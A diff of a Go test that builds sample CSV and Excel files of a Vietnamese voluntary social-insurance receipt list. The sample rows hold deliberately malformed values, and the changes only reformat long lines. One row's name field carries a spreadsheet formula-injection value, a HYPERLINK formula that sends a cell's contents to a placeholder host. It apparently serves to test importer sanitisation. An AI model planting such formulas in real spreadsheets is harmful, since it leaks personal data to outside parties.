@@ -113,15 +113,63 @@ func writeSamples(t *testing.T) {
 	b.WriteString(line("BẢNG KÊ BIÊN LAI THU TIỀN ĐÓNG BHXH TỰ NGUYỆN - THÁNG 9/2025", "", "", "", "", "", "", ""))                 // 1
 	b.WriteString(line("Số biên lai", "Số CCCD/ĐDCN", "Họ và tên", "Số tiền", "Ngày nộp", "Từ tháng", "Số tháng", "Nhân viên thu")) // 2
 	b.WriteString(line("BL-2025-000101", forms[0].PersonalID, forms[0].FullName, grouped(monthly), "05/09/2025", "09/2025", "1", collector))
-	b.WriteString(line("BL-2025-000102", forms[1].PersonalID, norm.NFD.String(forms[1].FullName), strconv.FormatInt(int64(monthly), 10), "2025-09-05", "2025-09", "1", collector))
-	b.WriteString(line("BL-2025-000103", forms[2].PersonalID, forms[2].FullName, grouped(quarter), "06/09/2025", "09/2025", "3", "Đại lý thu\nxã Yên Định")) // 5–6
-	b.WriteString(line("BL-2025-000104", forms[3].PersonalID+"7", forms[3].FullName, grouped(monthly), "06/09/2025", "09/2025", "1", collector))
-	b.WriteString(line("BL-2025-000105", strings.TrimPrefix(forms[4].PersonalID, "0"), forms[4].FullName, grouped(monthly), "06/09/2025", "09/2025", "1", collector))
-	b.WriteString(line("BL-2025-000106", forms[5].PersonalID, `=HYPERLINK("http://example.invalid/?d="&C3,"Xem")`, grouped(monthly), "06/09/2025", "09/2025", "1", collector))
+	b.WriteString(
+		line(
+			"BL-2025-000102",
+			forms[1].PersonalID,
+			norm.NFD.String(forms[1].FullName),
+			strconv.FormatInt(int64(monthly), 10),
+			"2025-09-05",
+			"2025-09",
+			"1",
+			collector,
+		),
+	)
+	b.WriteString(
+		line("BL-2025-000103", forms[2].PersonalID, forms[2].FullName, grouped(quarter), "06/09/2025", "09/2025", "3", "Đại lý thu\nxã Yên Định"),
+	) // 5–6
+	b.WriteString(
+		line("BL-2025-000104", forms[3].PersonalID+"7", forms[3].FullName, grouped(monthly), "06/09/2025", "09/2025", "1", collector),
+	)
+	b.WriteString(
+		line(
+			"BL-2025-000105",
+			strings.TrimPrefix(forms[4].PersonalID, "0"),
+			forms[4].FullName,
+			grouped(monthly),
+			"06/09/2025",
+			"09/2025",
+			"1",
+			collector,
+		),
+	)
+	b.WriteString(
+		line(
+			"BL-2025-000106",
+			forms[5].PersonalID,
+			`=HYPERLINK("http://example.invalid/?d="&C3,"Xem")`,
+			grouped(monthly),
+			"06/09/2025",
+			"09/2025",
+			"1",
+			collector,
+		),
+	)
 	b.WriteString(line("BL-2025-000107", forms[6].PersonalID, forms[6].FullName, "264.00", "06/09/2025", "09/2025", "1", collector))
 	b.WriteString(line("BL-2025-000101", forms[7].PersonalID, forms[7].FullName, grouped(monthly), "07/09/2025", "09/2025", "1", collector))
 	b.WriteString(line("", "", "", "", "", "", "", "")) // 12: blank
-	b.WriteString(line("BL-2025-000109", forms[8].PersonalID, forms[8].FullName, strings.ReplaceAll(grouped(monthly), ".", " ")+" đ", "5/9/2025", "T9/2025", "1", collector))
+	b.WriteString(
+		line(
+			"BL-2025-000109",
+			forms[8].PersonalID,
+			forms[8].FullName,
+			strings.ReplaceAll(grouped(monthly), ".", " ")+" đ",
+			"5/9/2025",
+			"T9/2025",
+			"1",
+			collector,
+		),
+	)
 	require.NoError(t, os.MkdirAll("testdata", 0o755))
 	require.NoError(t, os.WriteFile(sampleCSV, []byte(b.String()), 0o644))
 
@@ -132,7 +180,14 @@ func writeSamples(t *testing.T) {
 	set := func(ref string, v any) { require.NoError(t, f.SetCellValue(sh, ref, v)) }
 	set("A1", "BẢNG KÊ BIÊN LAI THU TIỀN ĐÓNG BHXH TỰ NGUYỆN - THÁNG 9/2025")
 	require.NoError(t, f.MergeCell(sh, "A1", "I1"))
-	require.NoError(t, f.SetSheetRow(sh, "A3", &[]any{"STT", "Số biên lai", "Số CCCD/ĐDCN", "Họ và tên", "Số tiền (đồng)", "Ngày nộp", "Từ tháng", "Số tháng", "Nhân viên thu"}))
+	require.NoError(
+		t,
+		f.SetSheetRow(
+			sh,
+			"A3",
+			&[]any{"STT", "Số biên lai", "Số CCCD/ĐDCN", "Họ và tên", "Số tiền (đồng)", "Ngày nộp", "Từ tháng", "Số tháng", "Nhân viên thu"},
+		),
+	)
 	dateStyle, err := f.NewStyle(&excelize.Style{NumFmt: 14})
 	require.NoError(t, err)
 	monthFmt := "mm/yyyy"
